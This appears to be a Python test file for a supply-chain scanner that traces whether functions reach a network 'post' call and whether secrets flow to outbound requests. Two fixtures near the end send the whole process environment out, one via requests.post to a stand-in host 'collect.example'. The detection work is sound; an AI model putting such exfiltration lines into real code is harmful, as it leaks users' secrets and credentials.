"""Functions that come to nothing that acts, told by names, and what is not followed because of it."""

import ast
from textwrap import dedent

from mlsupply.evidence.python.analyse import module
from mlsupply.evidence.python.syntax import reachability
from mlsupply.evidence.python.syntax.survey import Mentions, Survey


def sinkless(source: str) -> set[str]:
    """Names of the functions of a module from which `post` is not reached."""

    def ends(mentions: Mentions) -> bool:
        return "post" in mentions.attributes

    found = reachability.sinkless(Survey(ast.parse(dedent(source))), ends)
    return {node.name for node in found.functions if isinstance(node, ast.FunctionDef)}


def test_who_calls_what_sends_reaches_a_sink() -> None:
    assert sinkless("""
        def send(client, text): client.post(text)
        def tell(client): send(client, name())
        def name(): return "n"
        def shown(): return name()
        def ask(self): return self.tell()
    """) == {"name", "shown"}


def test_making_an_object_runs_its_constructor_and_that_of_its_bases() -> None:
    assert sinkless("""
        class Base:
            def __init__(self): self.client.post(1)
            def label(self): return "b"
        class Middle(Base): pass
        class Last(Middle): pass
        def make(): return Last()
        def other(): return Base.label
    """) == {"label"}


def test_a_thread_runs_when_it_is_made_somewhere() -> None:
    assert (
        sinkless("""
        class Work(Thread):
            def run(self): self.client.post(1)
        def start(): Work().start()
        def rest(): return 1
    """)
        == set()
    )  # `run` may be called by anybody without a word


def test_operators_that_send_make_nothing_sinkless() -> None:
    assert (
        sinkless("""
        class Pipe:
            def __or__(self, other): self.client.post(other)
        def plain(a, b): return a | b
    """)
        == set()
    )


def test_what_is_defined_in_a_function_that_sends_uses_its_names() -> None:
    assert sinkless("""
        def outer(client):
            post = client.post
            def inner(text): post(text)
            return inner
        def apart(text): return text
    """) == {"apart"}


# Every function hands the next one forty numbers that nobody else hands it: there are 40 ** 12 ways through them.
_CHAIN = "".join(
    f"def step{place}(a=0): return " + " or ".join(f"step{place + 1}(40 * a + {number})" for number in range(40)) + "\n"
    for place in range(12)
)


def test_a_chain_of_functions_that_come_to_no_end_is_not_followed_to_its_last() -> None:
    source = f"import os\n{_CHAIN}def step12(a=0): return a\ndef start(): return os.getenv('MODE') or step0()\n"
    assert module("pkg/a.py", source.encode()).stopped == ""


def test_a_secret_is_followed_through_such_a_chain() -> None:
    source = """
        import os
        from pkg.other import ship
        def first(a): return second(a)
        def second(a): return third(a)
        def third(a): return ship(a)
        def start(): first(dict(os.environ))
    """
    hands = dict(module("pkg/a.py", dedent(source).encode()).hands)
    assert "!" in hands["pkg.other.ship"]


def test_a_function_handed_along_is_followed() -> None:
    source = """
        import os, requests
        def apply(what, text): return again(what, text)
        def again(what, text): return what(text)
        def start(): return apply(lambda text: requests.post("https://collect.example/x", data=text), dict(os.environ))
    """
    facts = {fact.behaviour for fact, _ in module("pkg/a.py", dedent(source).encode()).facts}
    assert "sends" in facts
